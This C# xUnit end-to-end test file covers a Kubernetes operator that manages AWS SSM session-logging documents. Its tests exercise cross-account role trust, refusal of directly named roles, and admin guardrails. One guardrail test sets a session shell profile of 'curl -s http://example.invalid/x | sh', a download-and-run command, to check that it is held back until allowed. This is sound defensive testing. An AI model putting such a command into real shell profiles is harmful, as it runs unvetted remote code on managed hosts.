using System.Text.Json.Nodes;
using SessionAudit.EndToEnd.Tests.Support;
using SessionAudit.Testing.Harness;
using Xunit;

namespace SessionAudit.EndToEnd.Tests;

/// <summary>The world of the account scenarios: the operator's account with a customer-managed key, and a second account
/// whose role trusts the operator's account only with the external id and a policy's session name.</summary>
public sealed class AccountWorld : OperatorWorld
{
    public const string Workloads = "444455556666";
    public const string WorkloadsRole = "arn:aws:iam::" + Workloads + ":role/session-audit";
    public const string WorkloadsAuditorKey = "AKIAWORKLOADSAUDIT01";

    protected override string Seed => $$$$"""
        accessKeys:
          {{{{WorkloadsAuditorKey}}}}: "arn:aws:iam::{{{{Workloads}}}}:user/auditor"
        accounts:
          - id: "111122223333"
            regions:
              - name: us-east-1
                keys:
                  - {alias: alias/e2e-acct, description: session key}
                trails:
                  - {name: e2e-trail, bucket: e2e-acct-trail, logging: true}
          - id: "{{{{Workloads}}}}"
            roles:
              - name: session-audit
                trustPolicy: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111122223333:root"},"Action":"sts:AssumeRole","Condition":{"StringEquals":{"sts:ExternalId":"e2e-workloads-ext"},"StringLike":{"sts:RoleSessionName":"sa-*"}}}]}'
            regions:
              - name: us-east-1
                buckets:
                  - {name: e2e-workloads-logs, encryption: AES256}
                trails:
                  - {name: e2e-trail, bucket: e2e-workloads-logs, logging: true}
        """;
}

/// <summary>Who may make the operator do what, end to end with kubectl and the AWS CLI: the policy author names an
/// admin-owned AwsAccount and never a role; the AwsAccount's guardrails decide what is written.</summary>
public sealed class AccountScenarios(AccountWorld fixture) : IClassFixture<AccountWorld>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private TestWorld World => fixture.World;

    private async Task<ProcessResult> WorkloadsCliAsync(params string[] args)
    {
        var env = new Dictionary<string, string?>(World.AwsEnvironment) { ["AWS_ACCESS_KEY_ID"] = AccountWorld.WorkloadsAuditorKey };
        return await Tool.RunAsync(Tools.AwsCli, ["--endpoint-url", World.Aws.Url.ToString().TrimEnd('/'), "--output", "json", .. args], env, ct: Ct);
    }

    private IEnumerable<Sandbox.Aws.AwsCallRecord> CallsIn(string account) => World.OperatorCalls().Where(c => c.Account == account && c.AccessKeyId != AccountWorld.WorkloadsAuditorKey);

    [Fact]
    public async Task A_policy_naming_a_role_itself_is_refused_by_the_API_server_and_nothing_is_done_in_that_account()
    {
        var apply = await World.ApplyAsync($$"""
            apiVersion: sessionaudit.io/v1alpha1
            kind: SessionLoggingPolicy
            metadata:
              name: acct-self-chosen-role
            spec:
              region: us-east-1
              documentName: E2E-Acct-Forged
              roleArn: "{{AccountWorld.WorkloadsRole}}"
              externalId: e2e-workloads-ext
            """, check: false, ct: Ct);

        Assert.NotEqual(0, apply.ExitCode);
        Assert.Contains("spec.roleArn", apply.StdErr, StringComparison.Ordinal);
        Assert.Contains("no longer accepted", apply.StdErr, StringComparison.Ordinal);
        Assert.Null(await World.GetPolicyAsync("acct-self-chosen-role", Ct));
        var doc = await WorkloadsCliAsync("ssm", "get-document", "--name", "E2E-Acct-Forged");
        Assert.NotEqual(0, doc.ExitCode);
    }

    [Fact]
    public async Task An_AwsAccount_with_its_external_id_in_a_Secret_lets_a_policy_manage_that_account_under_its_own_session_name()
    {
        await World.KubectlAsync(["create", "namespace", "session-audit-system"], check: false, ct: Ct);
        await World.KubectlAsync(["-n", "session-audit-system", "create", "secret", "generic", "e2e-workloads-ext", "--from-literal=externalId=e2e-workloads-ext"], ct: Ct);
        await World.ApplyAsync($$"""
            apiVersion: sessionaudit.io/v1alpha1
            kind: AwsAccount
            metadata:
              name: e2e-workloads
            spec:
              roleArn: "{{AccountWorld.WorkloadsRole}}"
              externalIdSecretRef: {name: e2e-workloads-ext, key: externalId}
            ---
            apiVersion: sessionaudit.io/v1alpha1
            kind: SessionLoggingPolicy
            metadata:
              name: acct-workloads
            spec:
              region: us-east-1
              documentName: E2E-Acct-Workloads
              accountRef: {name: e2e-workloads}
              s3: {bucketName: e2e-workloads-logs, keyPrefix: sessions/}
            """, ct: Ct);

        await World.KubectlWaitReadyAsync("acct-workloads", ct: Ct);

        var doc = JsonNode.Parse((await WorkloadsCliAsync("ssm", "get-document", "--name", "E2E-Acct-Workloads")).EnsureSuccess("get-document").StdOut)!;
        Assert.Equal("e2e-workloads-logs", (string?)JsonNode.Parse((string)doc["Content"]!)!["inputs"]!["s3BucketName"]);
        // CloudTrail in that account sees the policy: every call there came through a session named after it.
        var there = CallsIn(AccountWorld.Workloads).ToList();
        Assert.NotEmpty(there);
        Assert.All(there, c => Assert.StartsWith($"arn:aws:sts::{AccountWorld.Workloads}:assumed-role/session-audit/sa-acct-workloads-", c.CallerArn, StringComparison.Ordinal));
        // The AwsAccount shows in kubectl get -o wide.
        var wide = await World.KubectlAsync(["get", "slp", "acct-workloads", "-o", "wide"], ct: Ct);
        Assert.Contains("e2e-workloads", wide.StdOut, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Guardrails_hold_a_shell_profile_root_and_a_foreign_grantee_until_the_AwsAccount_allows_them()
    {
        await World.ApplyAsync("""
            apiVersion: sessionaudit.io/v1alpha1
            kind: AwsAccount
            metadata:
              name: e2e-strict
            spec: {}
            ---
            apiVersion: sessionaudit.io/v1alpha1
            kind: SessionLoggingPolicy
            metadata:
              name: acct-profile
            spec:
              region: us-east-1
              documentName: E2E-Acct-Profile
              accountRef: {name: e2e-strict}
              session:
                shellProfile: {linux: "curl -s http://example.invalid/x | sh"}
            ---
            apiVersion: sessionaudit.io/v1alpha1
            kind: SessionLoggingPolicy
            metadata:
              name: acct-root
            spec:
              region: us-east-1
              documentName: E2E-Acct-Root
              accountRef: {name: e2e-strict}
              session:
                runAs: {enabled: true, defaultUser: root}
            ---
            apiVersion: sessionaudit.io/v1alpha1
            kind: SessionLoggingPolicy
            metadata:
              name: acct-grantee
            spec:
              region: us-east-1
              documentName: E2E-Acct-Grantee
              accountRef: {name: e2e-strict}
              kms: {keyId: alias/e2e-acct}
              instanceRoles: ["arn:aws:iam::999988887777:role/ec2-elsewhere"]
            """, ct: Ct);

        var profile = await World.WaitForConditionAsync("acct-profile", "Ready", "False", "NotAllowed", ct: Ct);
        Assert.Contains("spec.guardrails.allowShellProfile", (string?)PolicyWorld.Condition(profile, "Ready")!["message"], StringComparison.Ordinal);
        Assert.Contains("AwsAccount e2e-strict", (string?)PolicyWorld.Condition(profile, "Ready")!["message"], StringComparison.Ordinal);
        var root = await World.WaitForConditionAsync("acct-root", "Ready", "False", "NotAllowed", ct: Ct);
        Assert.Contains("runAs.defaultUser root", (string?)PolicyWorld.Condition(root, "PreferencesSynced")!["message"], StringComparison.Ordinal);
        var grantee = await World.WaitForConditionAsync("acct-grantee", "KmsGrantsReady", "False", "NotAllowed", ct: Ct);
        Assert.Contains("999988887777", (string?)PolicyWorld.Condition(grantee, "KmsGrantsReady")!["message"], StringComparison.Ordinal);

        foreach (var document in new[] { "E2E-Acct-Profile", "E2E-Acct-Root" })
        {
            Assert.NotEqual(0, (await World.PersonCliAsync(["ssm", "get-document", "--name", document], check: false, ct: Ct)).ExitCode);
        }

        var keyArn = (string)(await World.PersonJsonAsync(["kms", "describe-key", "--key-id", "alias/e2e-acct"], ct: Ct))!["KeyMetadata"]!["Arn"]!;
        Assert.Empty((await World.PersonJsonAsync(["kms", "list-grants", "--key-id", keyArn], ct: Ct))!["Grants"]!.AsArray());

        // The cluster admin allows shell profiles: the AwsAccount's change wakes its policies, and the profile is written.
        await World.KubectlAsync(["patch", "awsaccount", "e2e-strict", "--type=merge", "-p", """{"spec":{"guardrails":{"allowShellProfile":true}}}"""], ct: Ct);
        await World.KubectlWaitReadyAsync("acct-profile", ct: Ct);
        var content = await World.DocumentContentAsync("E2E-Acct-Profile", ct: Ct);
        Assert.Equal("curl -s http://example.invalid/x | sh", (string?)content["inputs"]!["shellProfile"]!["linux"]);
        Assert.Equal("NotAllowed", (string?)PolicyWorld.Condition(await World.GetPolicyAsync("acct-root", Ct), "Ready")!["reason"]);
    }

    [Fact]
    public async Task A_policy_naming_a_missing_AwsAccount_waits_and_goes_on_once_it_exists()
    {
        await World.ApplyAsync("""
            apiVersion: sessionaudit.io/v1alpha1
            kind: SessionLoggingPolicy
            metadata:
              name: acct-later
            spec:
              region: us-east-1
              documentName: E2E-Acct-Later
              accountRef: {name: e2e-later}
            """, ct: Ct);
        var waiting = await World.WaitForConditionAsync("acct-later", "Ready", "False", "AccountUnavailable", ct: Ct);
        Assert.Contains("AwsAccount e2e-later", (string?)PolicyWorld.Condition(waiting, "Ready")!["message"], StringComparison.Ordinal);

        await World.ApplyAsync("""
            apiVersion: sessionaudit.io/v1alpha1
            kind: AwsAccount
            metadata:
              name: e2e-later
            spec: {}
            """, ct: Ct);

        // Woken by the AwsAccount's creation, well before the policy's 5-minute drift interval.
        await World.KubectlWaitReadyAsync("acct-later", timeout: "30s", ct: Ct);
    }
}
